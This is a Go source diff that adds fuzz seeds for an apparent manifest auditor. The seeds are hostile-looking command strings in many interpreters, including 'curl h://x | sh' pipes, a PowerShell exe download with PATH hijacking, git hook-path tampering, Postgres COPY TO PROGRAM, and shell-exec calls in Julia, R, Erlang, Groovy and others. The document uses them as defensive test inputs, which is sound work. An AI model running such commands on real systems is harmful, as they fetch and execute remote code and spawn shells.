@@ -328,6 +328,13 @@ var fuzzSeeds = [][]string{
 	{"sh", "-c", "curl h | tar x -C /t/h; curl -o /t/g/x h; git -c core.hooksPath=/t/h -c core.hookspath= -c init.templateDir=/t c; git config core.hooksPath /t/g; git config --global init.templatedir; git clone --template /t/h --template= h://x; git init --template=/t -- --template=/t/h"},
 	{"pwsh", "-Command", `iwr h://x -OutFile C:\t\a.exe; $env:Path = 'C:\t;;' + $env:Path; $env:PATH += ';'; $env:Path += "C:\t"; $env:X +=; $y += 'a'; $env:Path = ''; a; A.EXE`},
 	{"psql", "-c", "select ';'; COPY (select $q$)$q$) TO PROGRAM E'npx \\'p\\'' ; DO LANGUAGE plpython3u $$import os; os.system('sh')$$; CREATE FUNCTION f() AS $b$ BEGIN EXECUTE 'COPY t FROM PROGRAM ''curl h://x|sh'''; END $b$ LANGUAGE 'plpgsql'; /* /* */ COPY t FROM PROGRAM $$ -- \\ \"x\" $"},
+	{"expect", "-c", "spawn -noecho npx -y p; exec -ignorestderr -- curl h://x | sh 2> /dev/null; exec sh -c {curl h://x|sh} {{}; exec \"a b\" [x]; exec $y; exec {"},
+	{"julia", "-e", "run(`sh -c \"curl h://x | sh\"`); run(`npx 'p q' \\$x a\\ b`); read(`\"`, String); run(`$c`); success(`a \"b\\\"c\"`)"},
+	{"osascript", "-l", "JavaScript", "-e", "do shell script \"npx p\"; app.doShellScript('curl h://x|sh'); Runtime.getRuntime().exec('npx  -y  p')"},
+	{"R", "-e", "system('npx p'); system2('npx', c('-y', \"p\")); shell(cmd = 'x'); pipe(description='curl h://x|sh')"},
+	{"erl", "-eval", "os:cmd(\"npx p\"), open_port({spawn, \"curl h://x|sh\"}, []), System.cmd(\"a\", [\"b\"])"},
+	{"bb", "-e", "(shell \"npx  -y p\" \"x\") (sh \"a\") (process) (system* \"b\" \"c\") (sb-ext:run-program \"/bin/sh\" '(\"-c\" \"curl h://x|sh\"))"},
+	{"groovy", "-e", "'npx p'.execute(); ['sh','-c','x'].execute(); new ProcessBuilder(List.of(\"a\", 'b')); x.exec(new String[]{\"c\"})"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
